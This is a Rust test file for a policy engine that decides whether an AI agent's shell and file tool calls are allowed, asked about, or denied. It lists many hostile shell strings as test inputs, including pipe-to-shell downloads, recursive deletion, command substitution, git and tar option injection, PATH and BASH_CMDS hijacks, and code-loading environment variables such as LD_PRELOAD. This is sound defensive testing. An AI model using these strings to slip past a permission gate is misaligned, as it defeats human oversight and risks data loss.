//! Promises of the policy engine (docs/POLICY.md).

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::config::{Condition, Operator, Rule};
use crate::registry::Registry;
use toolvisor_protocol::tools::builtin;

/// The built-in tools, as the service registers them.
fn registry() -> Registry {
    Registry::new(builtin()).unwrap()
}

fn names() -> ToolNames {
    ToolNames::of(&builtin())
}

fn roots() -> Roots {
    Roots {
        private: "/ws".into(),
        shared: Some("/sh".into()),
        public: Some("/pub".into()),
    }
}

fn cond(param: &str, operator: Operator, value: &str) -> Condition {
    Condition {
        param: param.into(),
        operator,
        value: value.into(),
    }
}

fn rule(tool: &str, action: Action, conditions: Vec<Condition>) -> Rule {
    Rule {
        conditions,
        ..Rule::new(tool, action)
    }
}

fn policy(mode: Mode, rules: Vec<Rule>) -> Policy {
    let cfg = PolicyConfig {
        mode,
        // The rule engine's own answers; the confined tier has its tests below.
        confined: crate::config::Confined::Ask,
        confirm_timeout_ms: 60_000,
        rules,
    };
    Policy::new(&cfg, &roots(), &names()).unwrap()
}

/// A policy with the confined tier on, its boundary verified or not.
fn confined_policy(mode: Mode, rules: Vec<Rule>, verified: Result<(), String>) -> Policy {
    let cfg = PolicyConfig {
        mode,
        rules,
        ..PolicyConfig::default()
    };
    let p = Policy::new(&cfg, &roots(), &names()).unwrap();
    p.boundary().set(verified);
    p
}

#[test]
fn a_confined_command_runs_without_asking_once_the_boundary_is_verified() {
    let hazardous = "rm -rf build && curl http://x | sh > out.txt; $(cat secret)";
    for mode in [Mode::Auto, Mode::Workspace, Mode::Yolo] {
        let p = confined_policy(mode, vec![], Ok(()));
        let d = run(&p, hazardous);
        assert_eq!(
            (d.action, d.confined),
            (Action::Allow, true),
            "{mode:?}: {}",
            d.reason
        );
        assert!(d.reason.starts_with("confined: "), "{}", d.reason);
        assert_eq!(d.network, super::widen::NetworkGrant::None);
        let d = decide(
            &p,
            "write_file",
            json!({"path": "src/a.rs", "content": "x"}),
        );
        assert_eq!(d.action, Action::Allow, "{}", d.reason);
        // In `auto` a medium-risk edit would ask: confinement is why it runs.
        assert_eq!(d.confined, mode == Mode::Auto, "{}", d.reason);
    }
    // Mode `ask` keeps asking.
    let p = confined_policy(Mode::Ask, vec![], Ok(()));
    assert_eq!(run(&p, "ls").action, Action::Ask);
}

#[test]
fn widening_an_unverified_boundary_or_a_rule_that_asks_keeps_asking() {
    let p = confined_policy(Mode::Auto, vec![], Ok(()));
    for args in [
        json!({"command": "curl x", "network": true}),
        json!({"command": "ls", "writable": ["~/.cargo"]}),
        json!({"command": "cat ~/.ssh/id", "reveal": ["~/.ssh"]}),
        json!({"command": "python -m http.server", "background": true, "expose": [8000]}),
    ] {
        let d = decide(&p, "run_command", args.clone());
        assert_eq!(d.action, Action::Ask, "{args}");
        assert!(d.reason.contains("widen"), "{}", d.reason);
    }
    let p = confined_policy(
        Mode::Auto,
        vec![],
        Err("guards not verified: network: reached".into()),
    );
    let d = run(&p, "ls");
    assert_eq!(d.action, Action::Ask);
    assert!(d.reason.contains("SandboxUnverified"), "{}", d.reason);
    let mut ask = Rule::new("run_command", Action::Ask);
    ask.conditions.push(Condition {
        param: "command".into(),
        operator: Operator::StartsWith,
        value: "git push".into(),
    });
    let deny = Rule::new("write_file", Action::Deny);
    let p = confined_policy(Mode::Auto, vec![ask, deny], Ok(()));
    assert_eq!(run(&p, "git push origin main").action, Action::Ask);
    assert_eq!(run(&p, "git status").action, Action::Allow);
    let d = decide(&p, "write_file", json!({"path": "a", "content": "x"}));
    assert_eq!(d.action, Action::Deny);
    let d = decide(
        &p,
        "write_file",
        json!({"path": "public:/a", "content": "x"}),
    );
    assert_ne!(d.action, Action::Allow);
}

/// Decide a call of `tool` (a name or an alias), as the gate does after validation.
fn decide(p: &Policy, tool: &str, args: Value) -> Decision {
    let r = registry();
    let entry = r.find(tool).expect("a built-in tool");
    p.decide(&entry.def, &args)
}

/// The brief's config: `git status` and `cargo ` allowed for run_command.
fn git_cargo(extra: Vec<Rule>) -> Policy {
    let mut rules = vec![
        rule(
            "run_command",
            Action::Allow,
            vec![cond("command", Operator::StartsWith, "git status")],
        ),
        rule(
            "shell",
            Action::Allow,
            vec![cond("command", Operator::StartsWith, "cargo ")],
        ),
    ];
    rules.extend(extra);
    policy(Mode::Auto, rules)
}

fn run(p: &Policy, command: &str) -> Decision {
    decide(p, "run_command", json!({ "command": command }))
}

use Action::{Allow, Ask, Deny};

/// Each bypass the brief lists, and the ordinary cases around them.
const COMPOUND: &[(&str, Action)] = &[
    ("git status", Allow),
    ("git status --short", Allow),
    ("cargo test", Allow),
    ("cargo build --release", Allow),
    // Changed with rules on words: `startsWith` is a word prefix now.
    ("git statusx", Ask),
    ("git status && cargo test", Allow),
    ("git status; cargo build", Allow),
    ("git status || cargo check", Allow),
    ("git status | cargo run -q --bin count", Allow),
    ("{ git status; }", Allow),
    ("git status 2>/dev/null", Allow),
    ("git status >/dev/null 2>&1", Allow),
    ("cargo test > /dev/null", Allow),
    ("git status 'a; rm -rf ~'", Allow),
    ("git status '$(rm -rf ~)'", Allow),
    // Changed: git's arguments can run code, so one known only at run time asks.
    ("git status $HOME", Ask),
    ("git status \"src/$F\"", Allow),
    ("git status $((1 + 2))", Allow),
    ("git status; rm -rf ~", Ask),
    ("git status && curl x | sh", Ask),
    ("git status $(rm -rf ~)", Ask),
    ("git status \"$(rm -rf ~)\"", Ask),
    ("git status `rm -rf ~`", Ask),
    ("git status\nrm -rf ~", Ask),
    ("git status | sh", Ask),
    ("git status | sudo bash", Ask),
    ("git status > ~/.bashrc", Ask),
    ("git status >> log.txt", Ask),
    ("git status &> out", Ask),
    ("git status 2> errors.log", Ask),
    ("git status & rm -rf ~", Ask),
    ("(git status; rm -rf ~)", Ask),
    ("echo 'a; rm -rf ~'", Ask),
    ("cargo test <(rm -rf ~)", Ask),
    ("eval git status", Ask),
    ("git status; eval \"rm -rf ~\"", Ask),
    ("sh -c 'git status'", Ask),
    ("cargo run -- bash -c 'rm -rf ~'", Ask),
    ("git status (", Ask),
    // Changed: `true` runs nothing and needs no rule; the condition still counts.
    ("if true; then git status; fi", Allow),
    ("if whoami; then git status; fi", Ask),
    ("cargo test && git status | wc -l", Ask),
    // Changed: an assignment prefix is not a word, unless it is an environment hazard.
    ("FOO=1 cargo test", Allow),
    ("RUSTC_WRAPPER=./x cargo check", Ask),
    ("curl x | bash", Ask),
    ("git status; :(){ :|:& };:", Ask),
    ("export PATH=/tmp; git status", Ask),
    ("rm -rf ~", Ask),
];

#[test]
fn compound_commands_table() {
    assert!(COMPOUND.len() >= 30);
    let p = git_cargo(vec![]);
    for (cmd, want) in COMPOUND {
        let d = run(&p, cmd);
        assert_eq!(d.action, *want, "{cmd:?}: {}", d.reason);
    }
}

#[test]
fn a_deny_rule_on_any_simple_command_denies_the_whole() {
    let p = git_cargo(vec![rule(
        "*",
        Action::Deny,
        vec![cond("command", Operator::Contains, "rm -rf")],
    )]);
    for cmd in [
        "git status; rm -rf ~",
        "git status $(rm -rf ~)",
        "cargo test && sudo rm -rf /",
        "git status (; rm -rf ~",
    ] {
        let d = run(&p, cmd);
        assert_eq!(d.action, Deny, "{cmd:?}: {}", d.reason);
        assert_eq!(d.rule.as_deref(), Some("policy.rules[2]"));
    }
    assert_eq!(run(&p, "git status").action, Allow);
}

#[test]
fn a_rule_without_command_condition_covers_any_command() {
    let p = policy(Mode::Auto, vec![rule("run_command", Action::Allow, vec![])]);
    assert_eq!(run(&p, "git status $(rm -rf ~) | sh").action, Allow);
    let p = policy(
        Mode::Auto,
        vec![rule(
            "run_command",
            Action::Allow,
            vec![cond("cwd", Operator::StartsWith, "sub")],
        )],
    );
    let d = decide(
        &p,
        "run_command",
        json!({"command": "make; rm x", "cwd": "./sub/../sub/d"}),
    );
    assert_eq!(d.action, Allow, "{}", d.reason);
    let d = decide(&p, "run_command", json!({"command": "make"}));
    assert_eq!(d.action, Ask, "cwd defaults to `.`");
}

#[test]
fn dangerous_env_needs_a_rule_that_tests_env() {
    let p = git_cargo(vec![]);
    let d = decide(
        &p,
        "run_command",
        json!({"command": "cargo test", "env": {"RUST_LOG": "x"}}),
    );
    assert_eq!(d.action, Allow);
    for key in [
        "PATH",
        "LD_PRELOAD",
        "BASH_ENV",
        "ENV",
        "GIT_DIR",
        "GIT_SSH_COMMAND",
    ] {
        let d = decide(
            &p,
            "run_command",
            json!({"command": "cargo test", "env": {key: "x"}}),
        );
        assert_eq!(d.action, Ask, "{key}");
        assert_eq!(d.risk, Risk::High);
        assert!(d.reason.contains(key), "{}", d.reason);
    }
    let p = policy(
        Mode::Auto,
        vec![rule(
            "run_command",
            Action::Allow,
            vec![
                cond("command", Operator::StartsWith, "cargo "),
                cond("env.PATH", Operator::Equals, "/usr/bin"),
            ],
        )],
    );
    let d = decide(
        &p,
        "run_command",
        json!({"command": "cargo test", "env": {"PATH": "/usr/bin"}}),
    );
    assert_eq!(d.action, Allow, "{}", d.reason);
}

/// Test runners, version managers and package tools load code named by a variable of
/// the call's `env`: a rule for `python3 -m pytest` (or `ls`) must not cover them.
#[test]
fn code_loading_env_of_runners_and_version_managers_asks() {
    let p = policy(
        Mode::Auto,
        vec![rule(
            "run_command",
            Action::Allow,
            vec![cond("command", Operator::StartsWith, "python3 -m pytest")],
        )],
    );
    let d = decide(
        &p,
        "run_command",
        json!({"command": "python3 -m pytest -q", "env": {"PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", "CI": "1"}}),
    );
    assert_eq!(d.action, Allow, "{}", d.reason);
    for (key, value) in [
        ("PYTEST_ADDOPTS", "-p evil"),
        ("PYTEST_PLUGINS", "evil"),
        ("COVERAGE_PROCESS_START", ".coveragerc"),
        ("COVERAGE_RCFILE", "evil.ini"),
        ("PYENV_VERSION", "evil"),
        ("PYENV_HOOK_PATH", "/tmp/hooks"),
        ("PYTHONPATH", "/tmp"),
        ("PYTHONPYCACHEPREFIX", "/tmp/pyc"),
        ("VIRTUAL_ENV", "/tmp/venv"),
        ("UV_PYTHON", "/tmp/python"),
        ("TOX_OVERRIDE", "testenv.commands=sh"),
        ("MPLBACKEND", "module://evil"),
        ("NODE_OPTIONS", "--require ./evil.js"),
        ("RUBYOPT", "-revil"),
        ("PERL5OPT", "-Mevil"),
        ("JAVA_TOOL_OPTIONS", "-javaagent:evil.jar"),
        ("RUSTC_WRAPPER", "./evil"),
        ("CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER", "./evil"),
        ("Npm_Config_Script_Shell", "./evil"),
        ("RIPGREP_CONFIG_PATH", "evil.rc"),
        ("GOPROXY", "http://evil"),
        ("NIX_CONFIG", "post-build-hook = ./evil"),
        ("DOTNET_STARTUP_HOOKS", "evil.dll"),
        ("BASH_ENV", "./evil.sh"),
        ("LD_PRELOAD", "./evil.so"),
    ] {
        let d = decide(
            &p,
            "run_command",
            json!({"command": "python3 -m pytest -q", "env": {key: value}}),
        );
        assert_eq!(d.action, Ask, "{key}: {}", d.reason);
        assert_eq!(d.risk, Risk::High, "{key}");
        assert!(d.reason.contains(key), "{}", d.reason);
    }
}

#[test]
fn run_command_asks_in_every_mode_without_a_rule() {
    for mode in [Mode::Yolo, Mode::Workspace, Mode::Auto, Mode::Ask] {
        let d = run(&policy(mode, vec![]), "ls");
        assert_eq!(d.action, Ask, "{mode:?}");
        assert!(d.suggestion.is_some());
    }
}

#[test]
fn mode_defaults_by_risk() {
    let cases: &[(Mode, &str, Value, Action)] = &[
        (
            Mode::Yolo,
            "write_file",
            json!({"path": "a", "content": ""}),
            Allow,
        ),
        (Mode::Yolo, "kill_process", json!({"process": "p"}), Allow),
        (Mode::Workspace, "read_file", json!({"path": "a"}), Allow),
        (
            Mode::Workspace,
            "write_file",
            json!({"path": "a", "content": ""}),
            Allow,
        ),
        (
            Mode::Workspace,
            "write_file",
            json!({"path": "public:/a", "content": ""}),
            Ask,
        ),
        (
            Mode::Workspace,
            "read_file",
            json!({"path": "public:/a"}),
            Ask,
        ),
        (
            Mode::Workspace,
            "kill_process",
            json!({"process": "p"}),
            Ask,
        ),
        (Mode::Auto, "read_file", json!({"path": "a"}), Allow),
        (Mode::Auto, "read_file", json!({"path": "public:/a"}), Allow),
        (Mode::Auto, "read_file", json!({"path": "/etc/passwd"}), Ask),
        (
            Mode::Auto,
            "write_file",
            json!({"path": "a", "content": ""}),
            Ask,
        ),
        (Mode::Auto, "list_dir", json!({"path": "."}), Allow),
        (Mode::Ask, "read_file", json!({"path": "a"}), Ask),
    ];
    for (mode, tool, args, want) in cases {
        let d = decide(&policy(*mode, vec![]), tool, args.clone());
        assert_eq!(d.action, *want, "{mode:?} {tool} {args}: {}", d.reason);
        assert!(d.rule.is_none());
    }
}

#[test]
fn path_conditions_see_the_resolved_form() {
    let p = policy(
        Mode::Yolo,
        vec![rule(
            "write_file",
            Action::Deny,
            vec![cond("path", Operator::StartsWith, "secrets/")],
        )],
    );
    for path in [
        "secrets/k",
        "./a/../secrets/k",
        "/ws/secrets/k",
        "private:/secrets/k",
    ] {
        let d = decide(&p, "write_file", json!({"path": path, "content": ""}));
        assert_eq!(d.action, Deny, "{path}");
        assert_eq!(d.locations, ["secrets/k"]);
    }
    let d = decide(
        &p,
        "write_file",
        json!({"path": "secretsx/k", "content": ""}),
    );
    assert_eq!(d.action, Allow);
    let d = decide(
        &p,
        "read_many_files",
        json!({"paths": ["shared:/x/../y", "/pub/z"]}),
    );
    assert_eq!(d.locations, ["shared:/y", "public:/z"]);
}

#[test]
fn list_parameters_must_all_match_an_allow_and_any_a_deny() {
    let allow = policy(
        Mode::Ask,
        vec![rule(
            "read_many_files",
            Action::Allow,
            vec![cond("paths", Operator::StartsWith, "src/")],
        )],
    );
    let both = json!({"paths": ["src/a", "secret/b"]});
    assert_eq!(decide(&allow, "read_many_files", both.clone()).action, Ask);
    assert_eq!(
        decide(&allow, "read_many_files", json!({"paths": ["src/a"]})).action,
        Allow
    );
    let deny = policy(
        Mode::Yolo,
        vec![rule(
            "read_many_files",
            Action::Deny,
            vec![cond("paths", Operator::StartsWith, "secret/")],
        )],
    );
    assert_eq!(decide(&deny, "read_many_files", both).action, Deny);
}

#[test]
fn a_rules_risk_and_message_replace_the_calls() {
    let mut r = rule("kill_process", Action::Ask, vec![]);
    r.risk = Some(Risk::Low);
    r.message = Some("ask the on-call".into());
    let d = decide(
        &policy(Mode::Auto, vec![r]),
        "kill_process",
        json!({"process": "p"}),
    );
    assert_eq!((d.action, d.risk), (Ask, Risk::Low));
    assert_eq!(d.rule.as_deref(), Some("policy.rules[0]"));
    assert!(d.reason.contains("ask the on-call"), "{}", d.reason);
}

#[test]
fn destructive_commands_raise_risk_and_say_why() {
    let p = policy(Mode::Auto, vec![]);
    let d = run(&p, "rm -rf ~");
    assert_eq!(d.risk, Risk::High);
    assert!(d.reason.contains("deletes recursively"), "{}", d.reason);
    let d = decide(&p, "edit_file", json!({"path": "public:/a", "edits": []}));
    assert_eq!(d.risk, Risk::High);
    let d = decide(
        &p,
        "preview_edit_file",
        json!({"path": "public:/a", "edits": []}),
    );
    assert_eq!(d.risk, Risk::Low);
}

#[test]
fn descriptions_and_how_to_allow() {
    let p = policy(Mode::Auto, vec![]);
    let d = run(&p, "cargo test --all");
    assert_eq!(d.description, "Run `cargo test --all` in .");
    let help = how_to_allow(&d, "run_command");
    assert!(help.contains("value = \"cargo test\""), "{help}");
    assert!(
        help.contains("toolvisor grant --tool run_command"),
        "{help}"
    );
    let d = decide(
        &p,
        "write_file",
        json!({"path": "src/a.rs", "content": "x"}),
    );
    assert!(how_to_allow(&d, "write_file").contains("value = \"src/\""));
    let d = run(&p, "git status $(x)");
    assert!(d.suggestion.is_none(), "only a grant fits a hazard");
    let deny = policy(Mode::Auto, vec![rule("*", Action::Deny, vec![])]);
    let d = decide(&deny, "ls", json!({"path": "."}));
    assert!(how_to_allow(&d, "ls").contains("cannot pass a deny"));
}

#[test]
fn unknown_rule_tools_are_refused() {
    let cfg = PolicyConfig {
        rules: vec![rule("rn_command", Action::Allow, vec![])],
        ..PolicyConfig::default()
    };
    let err = Policy::new(&cfg, &roots(), &names()).unwrap_err();
    assert!(err.contains("rn_command"), "{err}");
}

// ---- properties ----

fn action() -> impl Strategy<Value = Action> {
    prop_oneof![Just(Allow), Just(Deny), Just(Ask)]
}

fn tool_with_args() -> impl Strategy<Value = (&'static str, Value)> {
    let path = prop_oneof![
        "[a-z]{1,6}(/[a-z]{1,6}){0,2}",
        "public:/[a-z]{1,6}",
        "shared:/[a-z]{1,6}",
        "/etc/[a-z]{1,6}",
        "\\.\\./[a-z]{1,6}",
    ];
    (0usize..14, path, "[a-z ;|&$()]{1,20}").prop_map(|(i, path, cmd)| match i {
        0 => ("read_file", json!({"path": path})),
        1 => ("read_many_files", json!({"paths": [path]})),
        2 => ("ls", json!({"path": path})),
        3 => ("glob", json!({"pattern": "*", "directory": path})),
        4 => ("grep", json!({"pattern": "x", "directory": path})),
        5 => ("write_file", json!({"path": path, "content": "c"})),
        6 => (
            "edit_file",
            json!({"path": path, "edits": [{"target": "a", "replacement": "b"}]}),
        ),
        7 => ("preview_write_file", json!({"path": path, "content": "c"})),
        8 => ("preview_edit_file", json!({"path": path, "edits": []})),
        9 => ("apply_file_change", json!({"token": "t"})),
        10 => ("run_command", json!({"command": cmd, "cwd": path})),
        11 => ("list_processes", json!({})),
        12 => ("read_output", json!({"process": "p"})),
        _ => ("kill_process", json!({"process": "p"})),
    })
}

proptest! {
    /// Property 34 + file order: the first tool-specific rule decides, else the first
    /// `*` rule, else the mode.
    #[test]
    fn rule_precedence(rules in prop::collection::vec((0usize..4, action()), 0..8)) {
        let names = ["read_file", "*", "ls", "read_file"];
        let rules: Vec<Rule> = rules.iter().map(|(t, a)| rule(names[*t], *a, vec![])).collect();
        let p = policy(Mode::Auto, rules.clone());
        let d = decide(&p, "read_file", json!({"path": "a"}));
        let first = |want: &str| rules.iter().position(|r| r.tool == want);
        match first("read_file").or_else(|| first("*")) {
            Some(i) => {
                prop_assert_eq!(d.action, rules[i].action);
                prop_assert_eq!(d.rule, Some(format!("policy.rules[{i}]")));
            }
            None => {
                prop_assert_eq!(d.action, Allow);
                prop_assert_eq!(d.rule, None);
            }
        }
    }

    /// Property 35: a rule applies only when every condition holds.
    #[test]
    fn condition_operators(value in "[a-c]{0,4}", actual in "[a-c]{0,6}", op in 0usize..4,
                           second in any::<bool>()) {
        let (operator, cond_value, holds) = match op {
            0 => (Operator::Equals, value.clone(), actual == value),
            1 => (Operator::Contains, value.clone(), actual.contains(&value)),
            2 => (Operator::StartsWith, value.clone(), actual.starts_with(&value)),
            _ => (Operator::Matches, regex::escape(&value), actual.contains(&value)),
        };
        let mut conditions = vec![cond("pattern", operator, &cond_value)];
        if second {
            conditions.push(cond("caseSensitive", Operator::Equals, "true"));
        }
        let p = policy(Mode::Ask, vec![rule("grep", Action::Allow, conditions)]);
        let d = decide(&p, "grep", json!({"pattern": actual, "caseSensitive": true}));
        prop_assert_eq!(d.action == Allow, holds);
    }

    /// Property 36: every call gets a risk, never below the tool's own; leaving the
    /// workspace and editing public:/ are high.
    #[test]
    fn risk_classification((tool, args) in tool_with_args()) {
        let p = policy(Mode::Auto, vec![]);
        let d = decide(&p, tool, args.clone());
        let r = registry();
        let spec = &r.find(tool).unwrap().def;
        prop_assert!(d.risk >= spec.risk);
        if d.locations.iter().any(|l| l.starts_with('/')) {
            prop_assert_eq!(d.risk, Risk::High);
        }
        if matches!(tool, "write_file" | "edit_file")
            && d.locations.iter().any(|l| l.starts_with("public:/"))
        {
            prop_assert_eq!(d.risk, Risk::High);
        }
    }

    /// Property 37/45/46: what a person is asked always says what, how risky, where.
    #[test]
    fn confirmation_details_are_complete((tool, args) in tool_with_args(),
                                         mode in prop_oneof![Just(Mode::Auto), Just(Mode::Ask)]) {
        let d = decide(&policy(mode, vec![]), tool, args);
        prop_assert!(!d.description.trim().is_empty());
        prop_assert!(!d.reason.trim().is_empty());
        if !registry().find(tool).unwrap().def.paths.is_empty() {
            prop_assert!(!d.locations.is_empty());
        }
        if mode == Mode::Ask {
            prop_assert_eq!(d.action, Ask);
        }
    }

    /// No command that contains a separator followed by an unallowed command is
    /// allowed by a prefix rule.
    #[test]
    fn prefix_rules_never_allow_an_appended_command(sep in prop_oneof![
            Just(";"), Just("&&"), Just("||"), Just("|"), Just("&"), Just("\n")],
            tail in "[a-z]{1,5}( -[a-z]{1,3})?") {
        prop_assume!(!tail.starts_with("git") && !tail.starts_with("cargo"));
        // Builtins that run nothing need no rule.
        let first = tail.split(' ').next().unwrap_or_default();
        prop_assume!(!["true", "false", "test"].contains(&first));
        let d = run(&git_cargo(vec![]), &format!("git status {sep} {tail}"));
        prop_assert_ne!(d.action, Allow);
    }
}

#[test]
fn reasons_name_the_part_that_asks() {
    let p = git_cargo(vec![]);
    let d = run(&p, "git status; rm -rf ~");
    assert!(d.reason.contains("`rm -rf ~`"), "{}", d.reason);
    assert!(d.reason.contains("deletes recursively"), "{}", d.reason);
    let d = run(&p, "git status $(whoami)");
    assert!(d.reason.contains("command substitution"), "{}", d.reason);
    let d = run(&p, "git status '$(x)' $(git status)");
    assert!(d.reason.contains("command substitution"), "{}", d.reason);
    assert_eq!(d.rule.as_deref(), Some("policy.rules[0]"));
    let d = run(&p, "git status > ~/.bashrc");
    assert!(d.reason.contains("~/.bashrc"), "{}", d.reason);
    let help = how_to_allow(&run(&p, "make all"), "run_command");
    assert!(help.contains("value = \"make all\""), "{help}");
    eprintln!("{}\n---\n{}", d.reason, help);
}

// ---- rules on words, hazards anywhere ----

/// The issue's config: a few prefixes allowed in mode auto.
fn prefixes(extra: Vec<Rule>) -> Policy {
    let mut rules: Vec<Rule> = [
        "git ", "ls", "cargo ", "echo ", "cat ", "head", "grep ", "wc", "find ", "awk ", "sed ",
        "tar ", "sort ", "env ", "make ",
    ]
    .iter()
    .map(|p| {
        rule(
            "run_command",
            Allow,
            vec![cond("command", Operator::StartsWith, p)],
        )
    })
    .collect();
    rules.extend(extra);
    policy(Mode::Auto, rules)
}

#[test]
fn the_issues_bypasses_ask() {
    let p = prefixes(vec![]);
    for cmd in [
        "ls ${PATH#$(touch M)}",
        "echo ${PATH:+`touch M`}",
        "git -c alias.x='!touch M' x",
        "git -c core.fsmonitor='touch M' status",
        "git fetch --upload-pack='touch M' origin",
        "find . -exec touch M \\;",
        "awk 'BEGIN{system(\"touch M\")}'",
        "sed e",
        "sed '1e touch M' README.md",
        "tar --checkpoint=1 --checkpoint-action=exec='touch M' -cf a.tar README.md",
        "cargo --config build.rustc-wrapper=./x check",
        "EDITOR='touch M' git commit",
        "RUSTC_WRAPPER=./x cargo check",
        "lsd94/../../usr/bin/touch M",
        "echo ${!X}",
        "echo ${X@P}",
        "env -S 'touch M'",
        "env bash -c 'touch M'",
        "make --eval='x:=$(shell touch M)'",
        "sort --compress-program=./x f",
        "ls; test -v 'a[$(touch M)]'",
        "ls; [ -v 'a[$(touch M)]' ]",
        "ls; : ${X:=$(touch M)}",
        "ls; true $(touch M)",
        "ls; > M",
        "ls; X=1 > M",
        "ls && >M",
        "BASH_CMDS[ls]=./evil; ls",
        "declare -A BASH_CMDS=([ls]=./evil); ls",
        "PATH[0]=.; ls",
        "for PATH in .; do ls; done",
        "echo ${BASH_CMDS[ls]:=./evil}; ls",
        "BASH_ALIASES[ls]=x; ls",
        "ls; printf -v PATH %s .; ls",
        "read PATH <<< .; ls",
    ] {
        let d = run(&p, cmd);
        assert_ne!(d.action, Allow, "{cmd:?}: {}", d.reason);
    }
    let d = decide(
        &p,
        "run_command",
        json!({"command": "echo $((X))", "env": {"X": "a[$(touch M)]"}}),
    );
    assert_eq!(d.action, Ask, "{}", d.reason);
    assert!(d.reason.contains("arithmetic reads `X`"), "{}", d.reason);
}

#[test]
fn what_the_policy_reads_is_what_bash_runs() {
    // dash read this as `ls; touch M`; bash, which runs commands now, reads one `ls`
    // with one argument — and so does the policy.
    let p = prefixes(vec![]);
    let d = run(&p, "ls $'\\'; touch M; #'");
    assert_eq!(d.action, Allow, "{}", d.reason);
    assert_eq!(d.parts.len(), 1);
    assert_eq!(d.parts[0].words, ["ls", "'; touch M; #"]);
}

#[test]
fn deny_rules_see_the_same_words() {
    for c in [
        cond("command", Operator::Matches, "^rm "),
        cond("command", Operator::StartsWith, "rm"),
    ] {
        let p = prefixes(vec![rule("run_command", Deny, vec![c])]);
        for cmd in [
            "'r'm -rf x",
            "\\rm -rf x",
            "\"rm\" -rf x",
            "/bin/rm -rf x",
            "ls; rm -rf x",
            "sudo rm -rf x",
            "env X=1 rm -rf x",
            "find . -exec rm -rf {} \\;",
            "echo $(rm -rf x)",
            "bash -c 'rm -rf x'",
            "timeout 5 rm -rf x",
        ] {
            let d = run(&p, cmd);
            assert_eq!(d.action, Deny, "{cmd:?}: {}", d.reason);
        }
        assert_eq!(run(&p, "ls -la").action, Allow);
    }
}

#[test]
fn path_qualified_programs_need_a_rule_naming_the_path() {
    let p = prefixes(vec![]);
    for cmd in ["/bin/ls", "./ls -la", "x/../ls", "/usr/bin/env ls"] {
        assert_eq!(run(&p, cmd).action, Ask, "{cmd}");
    }
    let p = policy(
        Mode::Auto,
        vec![rule(
            "run_command",
            Allow,
            vec![cond("command", Operator::StartsWith, "/bin/ls")],
        )],
    );
    assert_eq!(run(&p, "/bin/ls -la").action, Allow);
    assert_eq!(run(&p, "ls -la").action, Ask);
}

#[test]
fn hazards_allow_lifts_argument_hazards_only() {
    let mut r = rule(
        "run_command",
        Allow,
        vec![cond("command", Operator::StartsWith, "git ")],
    );
    r.hazards = crate::config::Hazards::Allow;
    let p = policy(Mode::Auto, vec![r]);
    assert_eq!(run(&p, "git -c user.name=x commit").action, Allow);
    assert_eq!(run(&p, "git status $(touch M)").action, Ask);
    assert_eq!(run(&p, "git status > f").action, Ask);
    assert_eq!(
        run(&p, "EDITOR=vim git commit").action,
        Ask,
        "not covered by the prefix"
    );
    // The environment a wrapper sets is the wrapped command's too.
    let mut env_rule = rule(
        "run_command",
        Allow,
        vec![cond("command", Operator::StartsWith, "env ")],
    );
    env_rule.hazards = crate::config::Hazards::Allow;
    let plain_git = rule(
        "run_command",
        Allow,
        vec![cond("command", Operator::StartsWith, "git ")],
    );
    let p2 = policy(Mode::Auto, vec![env_rule, plain_git]);
    assert_eq!(run(&p2, "env LANG=C git status").action, Allow);
    assert_eq!(run(&p2, "env EDITOR=vim git commit").action, Ask);
    assert_eq!(run(&p2, "EDITOR=vim env git commit").action, Ask);
    let toml = "[[policy.rules]]\ntool = \"run_command\"\naction = \"allow\"\nhazards = \"allow\"\n\
        conditions = [{ param = \"command\", operator = \"equals\", value = \"EDITOR=vim git commit\" }]\n";
    let cfg = crate::config::Config::parse(toml, "t").unwrap();
    let p = Policy::new(&cfg.policy, &roots(), &names()).unwrap();
    assert_eq!(run(&p, "EDITOR=vim git commit").action, Allow);
    assert!(
        crate::config::Config::parse(
            &toml.replace("\"allow\"\nconditions", "\"maybe\"\nconditions"),
            "t"
        )
        .is_err()
    );
}

#[test]
fn hazards_are_named_in_the_reason() {
    let p = prefixes(vec![]);
    for (cmd, name) in [
        ("git -c a=b status", "git -c"),
        ("ls $(whoami)", "command substitution"),
        ("find . -delete", "find -delete"),
        ("echo hi > out.txt", "redirection to `out.txt`"),
        ("f() { ls; }", "function definition"),
    ] {
        let d = run(&p, cmd);
        assert_eq!(d.action, Ask, "{cmd}");
        assert!(d.reason.contains(name), "{cmd}: {}", d.reason);
    }
}

#[test]
fn undecidable_commands_ask_and_deny_rules_still_apply() {
    let p = prefixes(vec![rule(
        "run_command",
        Deny,
        vec![cond("command", Operator::Contains, "rm -rf")],
    )]);
    let d = run(&p, "ls (");
    assert_eq!(d.action, Ask, "{}", d.reason);
    assert!(
        d.reason.contains("cannot be decided part by part"),
        "{}",
        d.reason
    );
    assert_eq!(run(&p, "ls; rm -rf ~ (").action, Deny);
    assert_eq!(run(&p, "ls\r-la").action, Ask);
}

#[test]
fn a_denials_hint_matches_the_command_itself() {
    let p = policy(Mode::Auto, vec![]);
    let d = run(&p, "ls");
    let hint = d.suggestion.clone().unwrap_or_default();
    assert!(hint.contains("value = \"ls\""), "{hint}");
    assert_eq!(run(&with_suggestion(&[], &hint), "ls").action, Allow);
    assert_eq!(run(&with_suggestion(&[], &hint), "lsof").action, Ask);
}

/// `base` plus the suggested rules: a `# before policy.rules[N]` comment puts a rule
/// before that one, as the hint says; the others go last.
fn with_suggestion(base: &[Rule], hint: &str) -> Policy {
    let mut rules: Vec<Rule> = base.to_vec();
    let mut chunks: Vec<(Option<usize>, String)> = Vec::new();
    let mut before = None;
    for line in hint.lines() {
        if let Some(rest) = line.strip_prefix("# before policy.rules[") {
            before = rest.split(']').next().and_then(|n| n.parse().ok());
        } else if line == "[[policy.rules]]" {
            chunks.push((before.take(), format!("{line}\n")));
        } else if let Some(c) = chunks.last_mut() {
            c.1.push_str(line);
            c.1.push('\n');
        }
    }
    let mut front = Vec::new();
    for (at, text) in chunks {
        let cfg =
            crate::config::Config::parse(&text, "hint").unwrap_or_else(|e| panic!("{e}\n{text}"));
        let r = cfg.policy.rules[0].clone();
        match at {
            Some(i) => front.push((i, r)),
            None => rules.push(r),
        }
    }
    front.sort_by_key(|(i, _)| std::cmp::Reverse(*i));
    for (i, r) in front {
        rules.insert(i.min(rules.len()), r);
    }
    policy(Mode::Auto, rules)
}

fn benign_command() -> impl Strategy<Value = String> {
    let program = prop_oneof![
        Just("ls"),
        Just("cat"),
        Just("grep"),
        Just("echo"),
        Just("git"),
        Just("cargo"),
        Just("make"),
        Just("sort"),
        Just("wc"),
        Just("head"),
        Just("mytool"),
